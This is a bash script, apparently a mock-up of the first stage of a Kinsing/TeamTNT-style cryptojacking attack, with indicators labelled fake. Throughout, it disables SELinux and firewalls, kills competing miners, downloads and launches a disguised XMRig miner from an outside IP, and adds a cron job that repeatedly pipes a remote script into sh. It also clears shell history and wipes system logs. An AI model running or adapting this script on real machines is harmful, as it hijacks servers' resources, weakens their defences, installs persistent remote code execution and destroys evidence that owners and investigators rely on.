#!/bin/bash
# stage 1 of a Kinsing/TeamTNT-style campaign (all indicators fake)
ulimit -n 65535
setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/selinux/config 2>/dev/null
ufw disable
iptables -F
sysctl -w vm.nr_hugepages=$(nproc)
modprobe msr allow_writes=on
wrmsr -a 0x1a4 0xf

# remove the competition
pkill -f kdevtmpfsi
pkill -f kinsing
pkill -f xmrig
pkill -f dbused
killall -9 kthreaddi
ps aux | grep -v grep | grep 'stratum' | awk '{print $2}' | xargs kill -9

# fetch the miner
MINER=/var/tmp/.ice-unix/kswapd0
mkdir -p /var/tmp/.ice-unix
curl -fsSL http://198.51.100.23/xmrig -o $MINER || wget -q http://198.51.100.23/xmrig -O $MINER
chmod +x $MINER
nohup $MINER -o 198.51.100.23:3333 -u 4AMinehuntFakeWaLLetDoNotUseTestTestTestTestTestTestTestTestTestTestTestTestTestTestTestTestTes -p x -B >/dev/null 2>&1 &

# persistence
(crontab -l 2>/dev/null; echo "*/3 * * * * curl -fsSL http://198.51.100.23/s.sh | sh") | crontab -
history -c
echo > /var/log/wtmp
echo > /var/log/secure
rm -rf /var/log/syslog
